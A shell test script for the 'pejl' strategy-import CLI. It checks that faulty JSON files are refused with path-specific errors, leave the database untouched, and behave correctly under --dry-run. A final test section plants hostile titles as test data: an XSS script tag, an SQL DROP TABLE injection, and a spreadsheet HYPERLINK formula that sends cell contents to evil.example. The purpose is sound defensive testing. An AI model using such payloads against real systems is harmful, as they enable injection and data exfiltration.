# tests/cli/test_strategy_errors.sh — bad strategy files: every mistake is
# reported with its JSON path, nothing is loaded (exit 1), and the database
# is left exactly as it was. Also broken JSON, odd files, --dry-run and
# hostile strings.
. "$ROOT/tests/cli/lib.sh"

DATA="$ROOT/data/strategy-kk-2014.json"

# Exports the database $1 to file $2 (empty file when export fails).
export_to() { "$PEJL" --db "$1" strategy export >"$2" 2>/dev/null || : >"$2"; }
same_file() {
	if [ ! -s "$2" ]; then not_ok "$1" "$2 is empty (did the export fail?)"
	elif cmp -s "$2" "$3"; then ok "$1"; else not_ok "$1" "$(diff "$2" "$3" | head -20)"; fi
}
# data_rows CSV: the number of non-empty lines after the header.
data_rows() { printf '%s\n' "$1" | tail -n +2 | grep -c .; }

# --- a file with several different mistakes -------------------------------------
# pejlemaerker[0].goals[1] is 1B (down), [2].goals[0] is 3A, [5].goals[0] is
# 6A (yearly), [7].goals[1] is 8B; data has four units, so the new one is [4].
mkbad() { # mkbad WHICH OUT
	python3 - "$DATA" "$2" "$1" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8"))
which = sys.argv[3]
pm = d["strategy"]["pejlemaerker"]
assert pm[0]["goals"][1]["code"] == "1B" and pm[0]["goals"][1]["direction"] == "down"
assert pm[0]["goals"][1]["target"]["kind"] == "delta"
assert pm[5]["goals"][0]["cadence"] == "yearly" and pm[7]["goals"][1]["code"] == "8B"
assert len(d["units"]) == 4
if which in ("all", "shape"):
    pm[2]["goals"][0]["titel"] = "Stavefejl"             # unknown key on a goal
    pm[3]["number"] = "4"                                 # number as a string
if which in ("all", "semantic"):
    pm[0]["goals"][1]["target"]["value"] = 80             # delta with the wrong sign
    pm[5]["goals"][0]["baseline"] = {"period": "2013Q1", "value": 40}   # quarter on a yearly goal
    pm[7]["goals"][1]["code"] = "8A"                      # duplicate goal code
    d["units"].append({"code": "GHOST", "name": "Spøgelsescentret", "kind": "centre",
                       "parent": "NOSUCHPARENT", "valid_from": "2014-01-01", "valid_to": None})
json.dump(d, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False, indent=2)
EOF
}
t "make a file with six mistakes" mkbad all "$TMP/bad.json"
t "make a file with the four model mistakes" mkbad semantic "$TMP/bad-semantic.json"
t "make a file with the two shape mistakes" mkbad shape "$TMP/bad-shape.json"

# The paths, one per mistake (expect_in with single quotes: $ is literal).
check_shape_paths() { # $1 = label
	expect_in '$.strategy.pejlemaerker[2].goals[0].titel' "$ERR" "$1: names the unknown key titel with its path"
	expect_in '$.strategy.pejlemaerker[3].number' "$ERR" "$1: names the pejlemærke number given as a string"
}
check_semantic_paths() {
	expect_in '$.strategy.pejlemaerker[0].goals[1].target.value' "$ERR" "$1: names 1B's delta with the wrong sign"
	expect_in '$.strategy.pejlemaerker[5].goals[0].baseline.period' "$ERR" "$1: names the quarterly baseline period on a yearly goal"
	expect_in '$.strategy.pejlemaerker[7].goals[1]' "$ERR" "$1: names the duplicate goal code"
	expect_in '$.units[4]' "$ERR" "$1: names the unit whose parent does not exist"
	expect_in 'NOSUCHPARENT' "$ERR" "$1: names the missing parent"
}

FULL="$TMP/full.db"
t "init a database with the strategy" "$PEJL" --db "$FULL" init
export_to "$FULL" "$TMP/full-before.json"
"$PEJL" --db "$FULL" units list --all --format csv >"$TMP/full-units-before.csv"
sum_before=$(sha256sum <"$TMP/full-before.json" | cut -d' ' -f1)

t_exit 1 "a file with six mistakes is refused (exit 1)" "$PEJL" --db "$FULL" strategy import "$TMP/bad.json"
expect_in "bad.json" "$ERR" "the messages name the file"
check_shape_paths "six mistakes"
check_semantic_paths "six mistakes"
export_to "$FULL" "$TMP/full-after.json"
same_file "six mistakes: the strategy is unchanged (export)" "$TMP/full-before.json" "$TMP/full-after.json"
"$PEJL" --db "$FULL" units list --all --format csv >"$TMP/full-units-after.csv"
same_file "six mistakes: the units are unchanged" "$TMP/full-units-before.csv" "$TMP/full-units-after.csv"
run "$PEJL" --db "$FULL" units list --all
expect_not_in "GHOST" "$OUT" "six mistakes: the unit GHOST was not added"
sum_after=$(sha256sum < <("$PEJL" --db "$FULL" strategy export 2>/dev/null) | cut -d' ' -f1)
[ "$sum_before" = "$sum_after" ] && ok "six mistakes: sha256 of a fresh export is unchanged" ||
	not_ok "six mistakes: sha256 of a fresh export is unchanged" "$sum_before != $sum_after"

# the same two groups of mistakes apart
t_exit 1 "shape mistakes only: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/bad-shape.json"
check_shape_paths "shape mistakes only"
t_exit 1 "model mistakes only: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/bad-semantic.json"
check_semantic_paths "model mistakes only"
expect_in "wrong" "$ERR" "model mistakes only: the delta message says it points the wrong way"
export_to "$FULL" "$TMP/full-after2.json"
same_file "after all refused imports the strategy is unchanged" "$TMP/full-before.json" "$TMP/full-after2.json"
"$PEJL" --db "$FULL" units list --all --format csv >"$TMP/full-units-after2.csv"
same_file "after all refused imports the units are unchanged" "$TMP/full-units-before.csv" "$TMP/full-units-after2.csv"

# on an empty database nothing at all is loaded (not even the good units)
EMPTY="$TMP/empty.db"
: >"$EMPTY" # an empty file is an empty SQLite database; pejl adds its schema
t "strategy list on an empty database" "$PEJL" --db "$EMPTY" strategy list --format csv
t_exit 1 "six mistakes into an empty database: exit 1" "$PEJL" --db "$EMPTY" strategy import "$TMP/bad.json"
run "$PEJL" --db "$EMPTY" strategy list --format csv
[ "$RC" -eq 0 ] && [ "$(data_rows "$OUT")" -eq 0 ] && ok "empty database: strategy list is empty after the refused import" ||
	not_ok "empty database: strategy list is empty after the refused import" "exit $RC: $OUT $ERR"
run "$PEJL" --db "$EMPTY" units list --all --format csv
[ "$RC" -eq 0 ] && [ "$(data_rows "$OUT")" -eq 0 ] && ok "empty database: no units were loaded" ||
	not_ok "empty database: no units were loaded" "exit $RC: $OUT $ERR"
t_exit 1 "init --strategy with the bad file on a new database: exit 1" "$PEJL" --db "$TMP/new.db" init --strategy "$TMP/bad.json"
run "$PEJL" --db "$TMP/new.db" strategy list --format csv
# either init left no database (exit 3) or an empty one
if [ "$RC" -eq 3 ] || { [ "$RC" -eq 0 ] && [ "$(data_rows "$OUT")" -eq 0 ]; }; then
	ok "a refused init loads no strategy"
else
	not_ok "a refused init loads no strategy" "exit $RC: $OUT"
fi

# --- other single mistakes ------------------------------------------------------------------
t "make files with single mistakes" python3 - "$DATA" "$TMP" <<'EOF'
import json, sys, copy
src = json.load(open(sys.argv[1], encoding="utf-8"))
def out(name, f):
    d = copy.deepcopy(src); f(d)
    json.dump(d, open(sys.argv[2] + "/" + name, "w", encoding="utf-8"), ensure_ascii=False, indent=2)
out("m-format.json", lambda d: d.__setitem__("format", "pejl-strategy/2"))
out("m-notitle.json", lambda d: d["strategy"]["pejlemaerker"][0]["goals"][0].pop("title"))
out("m-long.json", lambda d: d["strategy"]["pejlemaerker"][1].__setitem__("title", "x" * 4001))
out("m-measure.json", lambda d: d["strategy"]["pejlemaerker"][0]["goals"][2].__setitem__("measure", "antal"))
out("m-toplevel.json", lambda d: d.__setitem__("enheder", []))
EOF
t_exit 1 "a wrong format id: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/m-format.json"
expect_in '$.format' "$ERR" "a wrong format id is reported at \$.format"
t_exit 1 "a missing goal title: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/m-notitle.json"
expect_in '$.strategy.pejlemaerker[0].goals[0].title' "$ERR" "a missing title is reported with its path"
t_exit 1 "a title of 4001 characters: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/m-long.json"
expect_in '$.strategy.pejlemaerker[1].title' "$ERR" "an over-long title is reported with its path"
t_exit 1 "an unknown measure: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/m-measure.json"
expect_in '$.strategy.pejlemaerker[0].goals[2].measure' "$ERR" "an unknown measure is reported with its path"
expect_in "antal" "$ERR" "the message quotes the bad value"
t_exit 1 "an unknown top-level key: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/m-toplevel.json"
expect_in '$.enheder' "$ERR" "an unknown top-level key is reported with its path"
export_to "$FULL" "$TMP/full-after3.json"
same_file "single mistakes: the strategy is unchanged" "$TMP/full-before.json" "$TMP/full-after3.json"

# --- broken and odd files -------------------------------------------------------------------------
printf '{\n  "format": "pejl-strategy/1",\n  "strategy": {,}\n}\n' >"$TMP/syntax.json"
t_exit 1 "malformed JSON: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/syntax.json"
expect_in "syntax.json:3:16" "$ERR" "malformed JSON is reported as file:line:column"
printf '{"format": "pejl-strategy/1",\n"strategy": {"code": "kk-2014",\n' >"$TMP/truncated.json"
t_exit 1 "a truncated file: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/truncated.json"
expect_in "truncated.json:" "$ERR" "a truncated file is reported with its name and position"
: >"$TMP/empty.json"
t_exit 1 "an empty file: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/empty.json"
expect_in "empty.json" "$ERR" "an empty file is named in the message"
printf '\xff\xfe' >"$TMP/utf16.json"
t_exit 1 "a file that is not UTF-8: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/utf16.json"
expect_in "utf16.json" "$ERR" "a non-UTF-8 file is named in the message"
printf '%s' "$ERR" | grep -Eiq 'utf-?8|0xff|decode|encoding' && ok "the message says the bytes are not UTF-8" ||
	not_ok "the message says the bytes are not UTF-8" "$ERR"
# a Latin-1 byte inside an otherwise good file
python3 -c '
import sys
s = open(sys.argv[1], "rb").read().replace("Færre hjemløse".encode(), b"F\xe6rre hjeml\xf8se", 1)
open(sys.argv[2], "wb").write(s)' "$DATA" "$TMP/latin1.json"
t_exit 1 "a Latin-1 title inside a good file: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/latin1.json"
expect_in "latin1.json" "$ERR" "the Latin-1 file is named in the message"
echo '[]' >"$TMP/array.json"
t_exit 1 "a JSON array instead of an object: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/array.json"
expect_in "array.json" "$ERR" "the array file is named in the message"
expect_in "object" "$ERR" "the message says an object is wanted"
echo '"pejl-strategy/1"' >"$TMP/string.json"
t_exit 1 "a JSON string instead of an object: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/string.json"
printf '{"format": "pejl-strategy/1", "format": "pejl-strategy/1"}' >"$TMP/dupkey.json"
t_exit 1 "a duplicate key in an object: exit 1" "$PEJL" --db "$FULL" strategy import "$TMP/dupkey.json"

python3 -c '
import sys
s = open(sys.argv[1], "rb").read()
open(sys.argv[2], "wb").write(s + b" " * (17 * 1024 * 1024))
open(sys.argv[3], "wb").write(s + b" " * (16 * 1024 * 1024 - len(s)))' "$DATA" "$TMP/big.json" "$TMP/edge.json"
t_exit 1 "a 17 MiB file is refused (exit 1)" "$PEJL" --db "$FULL" strategy import "$TMP/big.json"
expect_in "big.json" "$ERR" "the message names the large file"
printf '%s' "$ERR" | grep -Eiq 'large|size|bytes' && ok "the message says the file is too large" ||
	not_ok "the message says the file is too large" "$ERR"
t_exit 1 "init --strategy with a 17 MiB file is refused (exit 1)" "$PEJL" --db "$TMP/big.db" init --strategy "$TMP/big.json"
t "a file of exactly 16 MiB is accepted" "$PEJL" --db "$FULL" strategy import "$TMP/edge.json"
t_exit 3 "a missing file: exit 3" "$PEJL" --db "$FULL" strategy import "$TMP/no-such-file.json"
expect_in "no-such-file.json" "$ERR" "the message names the missing file"
t_exit 2 "strategy import without a file: exit 2" "$PEJL" --db "$FULL" strategy import
t_exit 2 "strategy import with two files: exit 2" "$PEJL" --db "$FULL" strategy import "$DATA" "$DATA"
export_to "$FULL" "$TMP/full-after4.json"
same_file "odd files: the strategy is unchanged" "$TMP/full-before.json" "$TMP/full-after4.json"
"$PEJL" --db "$FULL" units list --all --format csv >"$TMP/full-units-after4.csv"
same_file "odd files: the units are unchanged" "$TMP/full-units-before.csv" "$TMP/full-units-after4.csv"

# --- --dry-run ----------------------------------------------------------------------------------------
DRY="$TMP/dry.db"
: >"$DRY"
t "--dry-run of a good file on an empty database" "$PEJL" --db "$DRY" strategy import --dry-run "$DATA"
expect_in "kk-2014" "$OUT" "--dry-run reports what it would load"
printf '%s' "$OUT" | grep -Eiq 'dry run|nothing (was )?loaded' && ok "--dry-run says nothing was loaded" ||
	not_ok "--dry-run says nothing was loaded" "$OUT"
run "$PEJL" --db "$DRY" strategy list --format csv
[ "$RC" -eq 0 ] && [ "$(data_rows "$OUT")" -eq 0 ] && ok "after --dry-run strategy list is empty" ||
	not_ok "after --dry-run strategy list is empty" "exit $RC: $OUT"
run "$PEJL" --db "$DRY" units list --all --format csv
[ "$RC" -eq 0 ] && [ "$(data_rows "$OUT")" -eq 0 ] && ok "after --dry-run there are no units" ||
	not_ok "after --dry-run there are no units" "exit $RC: $OUT"
t_exit 3 "after --dry-run goals list finds no strategy (exit 3)" "$PEJL" --db "$DRY" goals list
t_exit 1 "--dry-run of a bad file: exit 1" "$PEJL" --db "$DRY" strategy import "$TMP/bad-semantic.json" --dry-run
expect_in '$.strategy.pejlemaerker[0].goals[1].target.value' "$ERR" "--dry-run reports the mistakes"
t "the real import after a dry run works" "$PEJL" --db "$DRY" strategy import "$DATA"
run "$PEJL" --db "$DRY" strategy list --format csv
[ "$(data_rows "$OUT")" -eq 1 ] && ok "after the real import there is one strategy" || not_ok "after the real import there is one strategy" "$OUT"

# --- hostile strings -------------------------------------------------------------------------------------
t "make a file with hostile titles" python3 - "$DATA" "$TMP/hostile.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8"))
g = d["strategy"]["pejlemaerker"][0]["goals"]
g[0]["title"] = "<script>alert(1)</script>"
g[1]["title"] = "'; DROP TABLE goal; --"
g[2]["title"] = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
d["strategy"]["pejlemaerker"][1]["title"] = 'Pejlemærke "2" <b>fed</b> & \\ æøå ✓'
json.dump(d, open(sys.argv[2], "w", encoding="utf-8"), ensure_ascii=False, indent=2)
EOF
H="$TMP/hostile.db"
t "init --strategy with hostile titles" "$PEJL" --db "$H" init --strategy "$TMP/hostile.json"
export_to "$H" "$TMP/hostile-out.json"
t "hostile titles are exported verbatim" python3 - "$TMP/hostile-out.json" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1], encoding="utf-8"))
g = d["strategy"]["pejlemaerker"][0]["goals"]
assert g[0]["title"] == "<script>alert(1)</script>", g[0]["title"]
assert g[1]["title"] == "'; DROP TABLE goal; --", g[1]["title"]
assert g[2]["title"] == '=HYPERLINK("http://evil.example/?x="&A1,"klik")', g[2]["title"]
assert d["strategy"]["pejlemaerker"][1]["title"] == 'Pejlemærke "2" <b>fed</b> & \\ æøå ✓'
EOF
t "goals list --format csv with hostile titles" "$PEJL" --db "$H" goals list --format csv
CSV=$OUT
[ "$(data_rows "$CSV")" -eq 16 ] && ok "the goal table survived the SQL-looking title (16 goals)" ||
	not_ok "the goal table survived the SQL-looking title (16 goals)" "$CSV"
line=$(printf '%s\n' "$CSV" | grep '^1,1C,')
expect_in "1,1C,0,\"'=HYPERLINK(" "$line" "the CSV cell starting with = is neutralised (starts with \"'=)"
expect_not_in ",=HYPERLINK" "$CSV" "no CSV cell starts with a bare ="
expect_in "<script>alert(1)</script>" "$CSV" "the CSV keeps <script> verbatim (it is not HTML)"
expect_in "'; DROP TABLE goal; --" "$CSV" "the CSV keeps the SQL-looking title"
t "the CSV parses and the neutralised cell holds the title after a quote" python3 -c '
import csv, io, sys
rows = {r["goal"]: r for r in csv.DictReader(io.StringIO(sys.argv[1].lstrip("\ufeff")))}
assert rows["1C"]["title"] == "'"'"'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", rows["1C"]["title"]
assert rows["1B"]["title"] == "'"'"'; DROP TABLE goal; --", rows["1B"]["title"]
assert rows["1A"]["title"] == "<script>alert(1)</script>"
' "$CSV"
t "goals list --format json with hostile titles" "$PEJL" --db "$H" goals list --format json
t "the JSON listing holds the titles verbatim" python3 -c '
import json, sys
d = json.loads(sys.argv[1])
g = {x["code"]: x for p in d["pejlemaerker"] for x in p["goals"]}
assert g["1A"]["title"] == "<script>alert(1)</script>"
assert g["1B"]["title"] == "'"'"'; DROP TABLE goal; --"
assert g["1C"]["title"].startswith("=HYPERLINK(")
' "$OUT"
t "goals list (text) with hostile titles" "$PEJL" --db "$H" goals list
expect_in "<script>alert(1)</script>" "$OUT" "the text listing shows the title as written"
t "round trip of the hostile strategy" "$PEJL" --db "$TMP/hostile2.db" init --strategy "$TMP/hostile-out.json"
export_to "$TMP/hostile2.db" "$TMP/hostile-out2.json"
same_file "hostile strings survive export → import → export byte for byte" "$TMP/hostile-out.json" "$TMP/hostile-out2.json"

done_testing
